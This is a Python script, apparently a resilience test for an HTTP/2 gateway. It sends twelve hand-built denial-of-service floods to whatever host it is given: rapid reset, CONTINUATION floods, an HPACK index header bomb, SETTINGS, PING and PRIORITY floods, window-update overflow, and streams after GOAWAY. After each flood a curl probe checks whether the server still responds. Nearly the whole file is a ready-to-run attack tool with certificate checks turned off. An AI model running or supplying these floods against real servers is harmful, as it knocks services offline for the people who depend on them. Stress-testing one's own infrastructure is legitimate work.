"""Speaks HTTP/2 as no library would, to use up the gate; an honest request goes along after each flood.

Usage: http2_flood.py HOST   (the report is JSON on standard output)
"""
import json
import os
import socket
import ssl
import struct
import subprocess
import sys

host = sys.argv[1]
report = {}
SECONDS = 4


def frame(kind, flags, stream, payload=b''):
    return struct.pack('>I', len(payload))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + payload


def literal(name, value):
    return b'\0' + bytes([len(name)]) + name + bytes([len(value)]) + value


HEAD = b''.join([literal(b':method', b'GET'), literal(b':scheme', b'https'), literal(b':path', b'/attempt/flood'), literal(b':authority', host.encode())])
POST = HEAD.replace(b'\x03GET', b'\x04POST')
PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(4, 0, 0)
# HPACK: a header of 4000 bytes into the dynamic table, then by its index, over and over: few bytes, a long list.
INDEXED = HEAD + b'\x40\x01a' + b'\x7f\xa1\x1e' + b'b' * 4000 + b'\xbe' * 12000

FLOODS = {
    'rapid reset': [frame(1, 5, stream, HEAD) + frame(3, 0, stream, struct.pack('>I', 8)) for stream in range(1, 40001, 2)],
    'CONTINUATION without end': [frame(1, 1, 1, HEAD)] + [frame(9, 0, 1, literal(b'x-%d' % (n % 10), b'y' * 100) * 100) for n in range(4000)],
    'empty CONTINUATION': [frame(1, 1, 1, HEAD)] + [frame(9, 0, 1)] * 200000,
    'settings': [frame(4, 0, 0, struct.pack('>HI', 3, n)) for n in range(100000)],
    'pings': [frame(6, 0, 0, struct.pack('>Q', n)) for n in range(100000)],
    'priorities': [frame(2, 0, 1 + 2 * (n % 1000), struct.pack('>IB', 0, 1)) for n in range(100000)],
    'empty data': [frame(1, 4, 1, POST)] + [frame(0, 0, 1)] * 200000,
    'window updates that overflow': [frame(1, 4, 1, POST)] + [frame(8, 0, 0, struct.pack('>I', 0x7fffffff))] * 100,
    'a window that never opens': [frame(4, 0, 0, struct.pack('>HI', 4, 0))] + [frame(1, 5, stream, HEAD.replace(b'/attempt/flood', b'/bytes?n=90000')) for stream in range(1, 2001, 2)],
    'a header bomb by the index': [frame(1, 5, stream, INDEXED[:16000]) for stream in range(1, 2001, 2)],
    'streams that never end': [frame(1, 4, stream, POST) for stream in range(1, 20001, 2)],
    'goaway, then streams': [frame(7, 0, 0, b'\0' * 8)] + [frame(1, 5, stream, HEAD) for stream in range(1, 20001, 2)],
}


def flood(frames):
    with socket.create_connection((host, 443), 10) as plain:
        context = ssl._create_unverified_context()
        context.set_alpn_protocols(['h2'])
        with context.wrap_socket(plain, server_hostname=host) as channel:
            if channel.selected_alpn_protocol() != 'h2':
                return 'no h2'
            channel.settimeout(SECONDS)
            channel.sendall(PREFACE)
            sent = 0
            for at in range(0, len(frames), 200):
                channel.sendall(b''.join(frames[at:at + 200]))
                sent += 200
            return 'sent all'


def honest(name):
    # A client of its own: a new connection, HTTP/2.
    done = subprocess.run(['curl', '-sS', '--http2', '-m', '20', '-o', '/dev/null', '-w', '%{http_version} %{http_code}', '-H', 'X-Api-Key: ' + os.environ['API_TOKEN'],
                           'https://%s/attempt/honest' % host], capture_output=True, text=True)
    report['after ' + name] = done.stdout + done.stderr


honest('nothing')
for name, frames in FLOODS.items():
    try:
        report[name] = flood(frames)
    except OSError as error:
        report[name] = type(error).__name__
    honest(name)
json.dump(report, sys.stdout)
